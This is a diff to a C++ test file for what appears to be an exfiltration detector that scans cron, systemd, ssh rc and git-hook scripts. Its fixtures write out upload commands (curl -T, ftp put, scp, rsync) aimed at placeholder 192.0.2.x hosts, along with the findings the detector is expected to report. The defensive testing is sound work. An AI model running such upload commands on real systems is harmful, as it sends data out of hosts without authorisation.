@@ -35,12 +35,16 @@ TEST_CASE("registered: what artefacts and their scripts would send") {
        "0 6 * * * root curl -o f http://192.0.2.4/f\n"
        "0 7 * * * root echo scp; curl http://localhost/\n"
        "0 8 * * * root python3 /opt/x.py\n"
-       "0 9 * * * root /tmp/agent -s -T /a ftp://192.0.2.5/up/b\n"},
+       "0 9 * * * root /tmp/agent -s -T /a ftp://192.0.2.5/up/b\n"
+       "0 10 * * * root /opt/y.py\n"
+       "0 11 * * * root python3 -u /opt/bare\n"},
       {"/opt/night.sh",
        "#!/bin/sh\nfor i in 1 2; do\n  ftp -n 192.0.2.2 <<END\nput x\nEND\ndone\n/opt/deeper.sh\n"},
       {"/opt/deeper.sh", "#!/bin/sh\nscp a b@192.0.2.9:\n/opt/deepest.sh\n"},
       {"/opt/deepest.sh", "#!/bin/sh\nscp a b@192.0.2.10:\n"},
       {"/opt/x.py", "#!/usr/bin/python3\nimport os\nscp = 1\n"},
+      {"/opt/y.py", "#!/usr/bin/env python3\nrun(['scp', path, 'b@192.0.2.11:x'])\n"},
+      {"/opt/bare", "os.system('/opt/deepest.sh')\n"},
       {"/etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/bin/rsync -a /a b@192.0.2.6:c\n"},
       {"/root/.ssh/rc", "curl -T k http://192.0.2.7/\n"},
@@ -55,6 +59,8 @@ TEST_CASE("registered: what artefacts and their scripts would send") {
               "/etc/crontab:2 in /opt/deeper.sh: scp out 192.0.2.9",
               "/etc/crontab:3: curl out 192.0.2.3", "/etc/crontab:4: scp out ?",
               "/etc/crontab:5: curl in 192.0.2.4", "/etc/crontab:8: curl out 192.0.2.5",
+              "/etc/crontab:9 in /opt/y.py: scp out 192.0.2.11",
+              "/etc/crontab:10 in /opt/deepest.sh: scp out 192.0.2.10",
               "/etc/systemd/system/a.service: rsync out 192.0.2.6",
               "/root/.ssh/rc in /root/.ssh/rc: curl out 192.0.2.7",
               std::string("/srv/r.git/hooks/post-receive in /srv/r.git/hooks/post-receive: ") +
@@ -99,6 +105,10 @@ TEST_CASE("registered: scripts are found as what starts them finds them") {
       {"root echo usual", ""},
       {"root test -x /usr/bin/usual", ""},
       {"root PATH=/usr/local/bin; push-it", "/usr/local/bin/push-it"},
+      {"root PATH=/usr/local/bin push-it", "/usr/local/bin/push-it"},
+      {"root PATH=/usr/local/bin usual; push-it", ""},
+      {"root env A=1 usual", "/usr/bin/usual"},
+      {"root PATH=/usr/local/bin; /opt/of-path", "/usr/local/bin/push-it"},
       {"root /usr/bin/env bash /home/al/bin/x.sh", "/home/al/bin/x.sh"},
       {"root sh /opt/bare", "/opt/bare"},
       {"root bash -e /opt/bare", "/opt/bare"},
@@ -118,6 +128,7 @@ TEST_CASE("registered: scripts are found as what starts them finds them") {
             {"/home/al/bin/x.sh", script},
             {"/usr/bin/usual", script},
             {"/usr/local/bin/push-it", script},
+            {"/opt/of-path", "#!/bin/sh\npush-it\n"},
             {"/opt/bare", text}});
   const Inventory inventory = collect(image);
   const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
